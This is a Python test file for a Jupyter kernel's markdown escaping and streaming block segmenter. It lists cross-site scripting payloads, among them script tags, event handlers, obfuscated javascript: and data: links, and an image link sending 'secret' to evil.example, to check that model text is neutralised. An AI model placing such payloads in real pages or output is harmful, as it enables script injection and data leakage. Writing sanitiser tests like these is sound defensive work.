"""Escaping of model text and the block segmenter (pure functions)."""

from __future__ import annotations

import random

import pytest

from relay_jupyter.kernel.markdown import Segmenter, escape_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "![track](https://evil.example/leak?d=secret)",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a](java&#x73;cript:alert(1))",
    "\\<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "`` ` `` <b>after</b>",
    "\\`<img src=x onerror=alert(1)>`",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised(text: str) -> None:
    out = escape_markdown(text)
    # no raw tag can open outside code, no unsafe link destination, no image
    assert "<" not in out.replace("`` ` ``", "")
    assert "](javascript" not in out.lower().replace("\t", "").replace(" ", "")
    assert "](data:" not in out and "![" not in out


def test_safe_markdown_is_kept() -> None:
    text = "# Title\n\n**bold** and [docs](https://example.org) and `a < b`\n\n> quote\n\n- item"
    out = escape_markdown(text)
    assert "[docs](https://example.org)" in out and "`a < b`" in out and "> quote" in out and "# Title" in out


def test_fenced_code_is_verbatim() -> None:
    text = "before <b>\n```html\n<script>x()</script>\n```\nafter <i>"
    out = escape_markdown(text).split("\n")
    assert out[0] == "before &lt;b>" and out[2] == "<script>x()</script>" and out[4] == "after &lt;i>"


def test_unclosed_inline_code_does_not_protect_html() -> None:
    assert escape_markdown("`unclosed <script>") == "`unclosed &lt;script>"


def test_segmenter_emits_each_block_once_and_reassembles() -> None:
    rng = random.Random(7)
    text = "".join(rng.choice(["word ", "word\n", "\n\n", "```py\n", "```\n", "x = 1\n"]) for _ in range(3000))
    seg = Segmenter(max_tail=300)
    blocks: list[str] = []
    pos = 0
    while pos < len(text):
        step = rng.randint(1, 40)
        blocks += seg.feed(text[pos:pos + step])
        assert len(seg.tail) <= 300 + 40 + 10  # bounded live tail
        pos += step
    blocks.append(seg.finish())
    # every non-blank character arrives exactly once, in order (fence close/reopen lines aside)
    flat = "".join("".join(b.split()) for b in blocks)
    assert flat.replace("```py", "").replace("```", "") == "".join(text.split()).replace("```py", "").replace("```", "")


def test_segmenter_cut_inside_fence_closes_and_reopens() -> None:
    seg = Segmenter(max_tail=60)
    out = seg.feed("```python\n" + "".join(f"line_{i} = {i}\n" for i in range(20)))
    assert out and all(block.startswith("```python") and block.endswith("```") for block in out)
